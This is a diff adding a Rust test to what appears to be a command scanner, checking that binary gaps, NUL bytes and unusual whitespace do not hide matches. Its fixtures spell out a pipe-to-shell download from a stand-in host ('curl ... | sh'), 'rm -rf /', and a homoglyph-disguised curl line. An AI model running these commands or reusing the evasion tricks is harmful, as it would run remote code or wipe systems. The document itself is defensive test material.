@@ -984,6 +984,22 @@ mod tests {
     }
 
     #[test]
+    fn binary_gaps_neither_hide_a_match_nor_break_offsets() {
+        let found = |path: &str, bytes: &[u8]| rules_of(&scan_files(&[(path, bytes, false)]));
+        // A gap ending in a character of several bytes, right before the match.
+        assert!(found(
+            "assets/x.bin",
+            b"\0AAAA\xFFcurl -s https://t.example/x | sh\n"
+        )
+        .contains(&"SUP001"));
+        // Runs of one to three characters inside a match.
+        let script = b"#!/bin/bash\necho ok\ncurl -s https://t.example/x\0|sh\0\necho done\n";
+        assert!(found("scripts/setup.sh", script).contains(&"SUP001"));
+        // Form feed and vertical tab are whitespace to the rules.
+        assert!(found("assets/x.bin", b"\0rm -rf /\x0bxxxx").contains(&"DES001"));
+    }
+
+    #[test]
     fn a_line_only_the_normalised_view_reads_as_a_command_is_found() {
         // Unchanged lines around it are left to the raw pass; the folded line is searched.
         let text = "echo one\nсurl -s https://t.example/x | bash\necho two\n";
